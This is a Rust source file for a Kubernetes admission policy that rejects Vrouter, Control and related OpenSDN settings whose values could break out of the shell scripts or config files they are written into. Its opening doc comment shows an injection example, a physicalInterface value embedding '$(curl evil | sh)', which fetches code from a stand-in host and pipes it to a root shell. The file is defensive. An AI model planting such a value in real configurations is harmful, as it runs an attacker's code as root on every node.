//! A value that breaks out of the shell script or configuration file that it is written into.
//!
//! ```yaml
//! kind: Vrouter
//! spec:
//!   serviceConfiguration:
//!     physicalInterface: "eth0$(curl evil | sh)"     # params.env is sourced by root's bash
//! ```
//!
//! Values reach three places: `params.env`, which a privileged container on every node sources;
//! ini files and scripts with passwords; environment variables by their own names. Our operator
//! quotes for each, so this is the second line of defence; with tf-operator it is the only one.
//!
//! Every string of a Vrouter, a VrouterProfile and a Control is judged; of the fields without effect
//! whether they have a line break, since tf-operator writes them into comments. Not judged are images and
//! commands of containers, and what the schema restricts already (addresses, networks, enumerations).

mod credentials;
mod environment;
mod texts;

use opensdn_policy_components::{ComponentView, Owners, Services};
use opensdn_policy_sdk::{NoSettings, Outcome, Pointer, Reads, Request, Verdict, policy};
use serde::Deserialize;

use credentials::{AuthParameters, Credentials};
use texts::Texts;

#[derive(Reads)]
#[reads(group = "tf.tungsten.io", kind = "Manager")]
struct Manager {
    #[read("/spec/commonConfiguration/authParameters")]
    authentication: Option<AuthParameters>,
    #[read("/spec/services")]
    services: Option<Services<Spec>>,
}

#[derive(Reads)]
#[reads(group = "tf.tungsten.io", kind = "*")]
struct Standalone {
    #[read("/metadata/ownerReferences")]
    owners: Option<Owners>,
    #[read("/spec/commonConfiguration/authParameters")]
    authentication: Option<AuthParameters>,
    #[read("/spec")]
    spec: Option<Spec>,
}

#[derive(Reads)]
#[reads(group = "opensdn.io", kind = "VrouterProfile")]
struct VrouterProfile {
    #[read("/spec/moreConfig")]
    environment: Option<Texts>,
    #[read("/spec/dpdk")]
    dpdk: Option<Texts>,
    #[read("/spec/sriov")]
    sriov: Option<Texts>,
}

/// What is read of the spec of any component.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
struct Spec {
    service_configuration: Texts,
}

fn manager(request: &Request<Manager>, _: &NoSettings, verdict: &mut Verdict) -> Outcome {
    let Some(manager) = &request.object else { return Ok(()) };
    if let Some(authentication) = &manager.authentication {
        credentials::judge_keystone(authentication, "/spec".into(), verdict);
    }
    for component in manager.services.iter().flat_map(Services::walk) {
        judge(&component, verdict);
    }
    Ok(())
}

fn standalone(request: &Request<Standalone>, _: &NoSettings, verdict: &mut Verdict) -> Outcome {
    let Some(object) = &request.object else { return Ok(()) };
    // tf-operator writes what is in a Secret into its children; a refusal would stop the cluster, and
    // what the Manager has is judged there.
    let owned = object.owners.as_ref().and_then(Owners::manager).is_some();
    if let Some(authentication) = object.authentication.as_ref().filter(|_| !owned) {
        credentials::judge_keystone(authentication, "/spec".into(), verdict);
    }
    if let Some(spec) = &object.spec {
        let component = ComponentView::standalone(&request.kind, &request.name, spec);
        judge(&component, verdict);
    }
    Ok(())
}

fn vrouter_profile(
    request: &Request<VrouterProfile>,
    _: &NoSettings,
    verdict: &mut Verdict,
) -> Outcome {
    let Some(object) = &request.object else { return Ok(()) };
    let spec = Pointer::from("/spec");
    if let Some(texts) = &object.environment {
        let at = spec.key("moreConfig");
        environment::judge_names(texts.iter(), None, &at, verdict);
        environment::judge_profile(texts.iter(), &at, verdict);
        environment::judge_word("/SUBCLUSTER", texts, &at, verdict);
    }
    for (texts, name) in [(&object.dpdk, "dpdk"), (&object.sriov, "sriov")] {
        if let Some(texts) = texts {
            environment::judge_profile(texts.iter(), &spec.key(name), verdict);
        }
    }
    Ok(())
}

fn judge(component: &ComponentView<'_, Spec>, verdict: &mut Verdict) {
    let texts = &component.spec.service_configuration;
    match component.kind {
        "Vrouter" => {
            let at = component.setting("/envVariablesConfig");
            let interface = texts.get("/physicalInterface").unwrap_or_default();
            let variables = texts.below("/envVariablesConfig");
            environment::judge_names(variables, Some(interface), &at, verdict);
            environment::judge_values(texts.iter(), &component.setting(""), verdict);
            for path in ["/subcluster", "/envVariablesConfig/SUBCLUSTER"] {
                environment::judge_word(path, texts, &component.setting(""), verdict);
            }
        }
        "Control" => {
            // It is given to the provisioner as a variable of its container, and in no file.
            environment::judge_word("/subcluster", texts, &component.setting(""), verdict);
            let others = texts.iter().filter(|(path, _)| *path != "/subcluster");
            environment::judge_values(others, &component.setting(""), verdict);
            credentials::judge(&Credentials::CONTROL, texts, component, verdict);
        }
        "Rabbitmq" => {
            for credentials in [
                Credentials::RABBITMQ_USER,
                Credentials::RABBITMQ_PASSWORD,
                Credentials::RABBITMQ_VHOST,
            ] {
                credentials::judge(&credentials, texts, component, verdict);
            }
        }
        "Kubemanager" => credentials::judge(&Credentials::KUBEMANAGER, texts, component, verdict),
        _ => {}
    }
}

policy! {
    name: "unsafe-parameter",
    summary: "no value breaks out of the script or file that it is written into",
    settings: NoSettings,
    messages: [
        credentials::UNSAFE_CREDENTIAL,
        environment::BAD_NAME,
        environment::BREAKS_THE_FILE,
        environment::RUNS_CODE,
        environment::UNPAIRED,
    ],
    // The user who wrote it may run code wherever it is written to, until it is gone.
    never_ratchets: [
        credentials::UNSAFE_CREDENTIAL,
        environment::BAD_NAME,
        environment::BREAKS_THE_FILE,
        environment::RUNS_CODE,
    ],
    validate: [manager, standalone, vrouter_profile],
}
